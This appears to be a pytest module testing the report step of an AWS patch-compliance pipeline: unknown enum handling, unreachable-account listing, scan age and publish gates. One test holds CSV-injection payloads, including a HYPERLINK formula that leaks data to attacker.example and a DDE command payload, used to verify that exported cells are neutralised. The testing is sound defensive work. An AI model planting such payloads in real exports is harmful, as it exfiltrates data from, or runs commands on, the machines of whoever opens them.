"""Probes: what the report step publishes is complete and safe to open (issue 10 items 4, 5, 6 and 8).

Each probe stages raw documents the way collect writes them, runs the real report step (``steps.report``) against
moto's S3 and reads back what a user sees: summary.json, nodes.csv, report.html and the Parquet tables.
"""

from __future__ import annotations

import csv
import io
import json
import logging
from collections.abc import Iterator
from datetime import timedelta
from types import SimpleNamespace
from unittest import mock

import boto3
import pandas as pd
import pyarrow.parquet as pq
import pytest
from airflow.sdk.exceptions import AirflowFailException
from moto import mock_aws

from include.patch_compliance import steps
from include.patch_compliance.aws import AwsContext
from include.patch_compliance.config import parse_config
from include.patch_compliance.orchestration.operators import PublishReportOperator
from include.patch_compliance.runtime import RunContext
from include.patch_compliance.storage import to_jsonable
from tests.fixtures.raw.builders import (
    NOW,
    command_record,
    compliance_item,
    ec2_instance,
    instance_info,
    patch,
    patch_state,
    raw_doc,
    target,
    unreachable_doc,
)

BUCKET = "pc-faults-reports"
A, B = "i-0000000000000000a", "i-0000000000000000b"


@pytest.fixture
def run() -> Iterator[RunContext]:
    with mock_aws():
        hub = AwsContext(session=boto3.Session(region_name="us-east-1"))
        hub.client("s3").create_bucket(Bucket=BUCKET)
        cfg = parse_config({"regions": ["eu-west-1"], "reports": {"bucket": BUCKET, "prefix": "pc"}})
        yield RunContext(cfg=cfg, dag_id="patch_compliance_scan", run_id="manual__probe", hub=hub, run_after=NOW)


def stage_docs(run: RunContext, wave: str, docs: list[dict]) -> None:
    """What a collect task stages for shard 0 of ``wave`` after collecting ``docs`` (its staged Parquet tables)."""
    steps.stage_shard(run, wave, 0, to_jsonable(docs))


def stage(run: RunContext, docs: list[dict], commands: list[dict] = (), skipped: list[dict] = ()) -> dict:
    """Put what discover, wait and collect would have staged, run the report step, return what it published."""
    targets = [d["target"] for d in docs]
    run.put(run.key("plan"), {"waves": {"workloads": [targets]}, "skipped": list(skipped)})
    run.put(run.key("commands", "workloads", 0), list(commands))
    stage_docs(run, "workloads", docs)
    result = steps.report(run)
    s3 = run.hub.client("s3")

    def read(uri: str) -> bytes:
        return s3.get_object(Bucket=BUCKET, Key=uri.split(f"s3://{BUCKET}/", 1)[1])["Body"].read()

    summary = json.loads(read(result["summary_uri"]))
    return {
        "summary": summary,
        "html": read(result["report_url"]).decode(),
        "csv": read(result["report_url"].replace("report.html", "nodes.csv")).decode(),
        "tables": {name: pq.read_table(io.BytesIO(read(uri))).to_pandas() for name, uri in summary["tables"].items()},
    }


def test_unknown_api_values_are_kept_counted_shown_and_logged(run, caplog):
    """AWS adds enum values over time (docs/aws-behaviours.md §32): nothing is dropped or silently renamed."""
    patches = [
        patch("kernel", severity="Critical"),
        patch("bogus-state", state="Bogus"),
        patch("bogus-severity", severity="Catastrophic"),
    ]
    items = [
        compliance_item(A, "KB1", status="MAYBE", severity="EXTREME", patch_state="Quarantined"),
        compliance_item(A, "KB2"),
    ]
    doc = raw_doc(
        info=[instance_info(A, ping="Hibernating")],
        ec2=[ec2_instance(A)],
        states=[patch_state(A, missing=3, critical=1)],
        patches={A: patches},
        items={A: items},
    )
    with caplog.at_level(logging.WARNING):
        out = stage(run, [doc], [command_record(A, status="Paused", details="Paused For Lunch")])
    unrecognised = out["summary"]["unrecognised"]
    assert unrecognised["patches.state"] == {"Bogus": 1}
    assert unrecognised["patches.severity"] == {"Catastrophic": 1}
    assert unrecognised["compliance_items.status"] == {"MAYBE": 1}
    assert unrecognised["compliance_items.severity"] == {"EXTREME": 1}
    assert unrecognised["compliance_items.patch_state"] == {"Quarantined": 1}
    assert unrecognised["nodes.ping_status"] == {"Hibernating": 1}
    assert unrecognised["commands.status"] == {"Paused": 1}
    assert unrecognised["commands.outcome"] == {"Paused For Lunch": 1}
    rows = out["tables"]["patches"].set_index("kb_id")
    assert rows.loc["bogus-state", "state"] == "UNKNOWN"  # kept, not dropped
    assert list(rows.loc["bogus-state", "unrecognised"]) == ["state=Bogus"]
    assert rows.loc["bogus-severity", "severity"] == "UNSPECIFIED"
    assert list(rows.loc["kernel", "unrecognised"]) == []
    items_out = out["tables"]["compliance_items"].set_index("item_id")
    assert tuple(items_out.loc["KB1", ["status", "severity", "patch_state"]]) == ("UNKNOWN",) * 3
    assert items_out.loc["KB2", "status"] == "NON_COMPLIANT"
    assert out["tables"]["nodes"]["ping_status"].tolist() == ["UNKNOWN"]
    for text in ("Unrecognised API values", "patches.state", "Bogus", "Catastrophic", "Hibernating"):
        assert text in out["html"]
    assert any("Bogus" in r.getMessage() and r.levelno == logging.WARNING for r in caplog.records)


def test_csv_cells_never_start_a_formula(run):
    """OWASP CSV injection: =, +, -, @, tab and CR at the start of a cell are neutralised with a leading quote."""
    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
    docs = [
        raw_doc(
            target(account_name=evil),
            info=[instance_info(A, computer_name="+cmd|' /C calc'!A0"), instance_info(B, computer_name="@SUM(1+1)")],
            states=[patch_state(A), patch_state(B)],
        ),
        raw_doc(target("222222222222", account_name="-2+3"), info=[instance_info("i-0000000000000000c")]),
        raw_doc(target("333333333333", account_name="\tTAB"), info=[instance_info("i-0000000000000000d")]),
        raw_doc(target("444444444444", account_name="\rCR"), info=[instance_info("i-0000000000000000e")]),
    ]
    out = stage(run, docs)
    cells = [cell for row in csv.reader(io.StringIO(out["csv"], newline="")) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    for value in (evil, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tTAB", "\rCR"):
        assert "'" + value in cells
    assert evil in out["tables"]["nodes"]["account_name"].tolist()  # the Parquet table keeps the value as sent


def test_every_unreachable_and_skipped_account_is_listed(run):
    """The final gate says "see the unreachable list in the report": summary.json and report.html name them."""
    down = [
        unreachable_doc(target("555555555555", "eu-west-1", account_name="no-role"), code="AccessDenied"),
        {
            **unreachable_doc(target("666666666666", "ap-south-1", account_name="opt-out"), code="AuthFailure"),
            "error": {"code": "AuthFailure", "message": "region not enabled", "stage": "collect"},
        },
    ]
    skipped = [
        {"account_id": "777777777777", "account_name": "old", "ou_path": "Root/Sandbox", "reason": "SUSPENDED"},
        {"account_id": "888888888888", "account_name": "lab", "ou_path": "Root/Lab", "reason": "an excluded OU"},
    ]
    out = stage(run, [raw_doc(info=[instance_info(A)], states=[patch_state(A)]), *down], skipped=skipped)
    listed = out["summary"]["unreachable"]
    assert [(u["account_id"], u["region"], u["stage"], u["error_code"], u["account_name"]) for u in listed] == [
        ("555555555555", "eu-west-1", "assume_role", "AccessDenied", "no-role"),
        ("666666666666", "ap-south-1", "collect", "AuthFailure", "opt-out"),
    ]
    assert out["summary"]["skipped"] == skipped
    assert out["summary"]["totals"]["unreachable_targets"] == 2
    html = out["html"]
    for text in ("555555555555", "assume_role", "AccessDenied", "ap-south-1", "AuthFailure", "SUSPENDED", "lab"):
        assert text in html


def test_scan_age_is_never_negative(run):
    """A node scanned during the run ends its scan after the run's clock: 0 days, not -1; no scan stays null."""
    docs = [
        raw_doc(
            info=[instance_info(A), instance_info(B)],
            states=[patch_state(A, scanned=NOW + timedelta(minutes=20))],
        )
    ]
    nodes = stage(run, docs)["tables"]["nodes"].set_index("instance_id")
    assert nodes.loc[A, "scan_age_days"] == 0
    assert pd.isna(nodes.loc[B, "scan_age_days"])


def test_a_run_that_read_nothing_publishes_nothing(run):
    """Every account-region unreachable: an empty fleet must not replace the dashboard or the previous snapshot."""
    run.put(run.key("plan"), {"waves": {"workloads": [[target()]]}, "skipped": []})
    stage_docs(run, "workloads", [unreachable_doc()])
    with pytest.raises(steps.NothingToPublish, match="no account-region was collected.*AccessDenied"):
        steps.report(run)
    assert not run.hub.client("s3").list_objects_v2(Bucket=BUCKET, Prefix="pc/latest/").get("Contents")
    with pytest.raises(steps.NothingToPublish, match="discover did not succeed"):
        steps.report(run, discovered=False)


def test_a_partial_collection_is_still_published(run):
    """A wave whose collect failed stages nothing; what the other wave collected is published (and the
    final gate fails the run): nothing already collected is lost."""
    other = target("222222222222", wave="canary")
    run.put(run.key("plan"), {"waves": {"canary": [[other]], "workloads": [[target()]]}, "skipped": []})
    stage_docs(run, "workloads", [raw_doc(info=[instance_info(A)], states=[patch_state(A)])])
    result = steps.report(run)  # nothing staged for canary: that wave's collect task failed
    assert result["totals"]["nodes"] == 1
    assert run.hub.client("s3").list_objects_v2(Bucket=BUCKET, Prefix="pc/latest/")["KeyCount"] == 2


@pytest.mark.parametrize(("plan", "published"), [(None, False), ({"plan_uri": "s3://x/plan.json.gz"}, True)])
def test_the_report_task_publishes_only_after_discover_succeeded(run, plan, published):
    run.put(run.key("plan"), {"waves": {"workloads": [[target()]]}, "skipped": []})
    stage_docs(run, "workloads", [raw_doc(info=[instance_info(A)], states=[patch_state(A)])])
    ti = SimpleNamespace(xcom_pull=lambda task_ids: plan if task_ids == "discover" else None, xcom_push=lambda **kw: 0)
    operator = PublishReportOperator(task_id="report")
    with mock.patch("include.patch_compliance.runtime.RunContext.from_airflow", return_value=run):
        if published:
            assert operator.execute({"ti": ti})["totals"]["nodes"] == 1
        else:
            with pytest.raises(AirflowFailException, match="discover did not succeed.*nothing was published"):
                operator.execute({"ti": ti})
    latest = run.hub.client("s3").list_objects_v2(Bucket=BUCKET, Prefix="pc/latest/").get("KeyCount", 0)
    assert latest == (2 if published else 0)
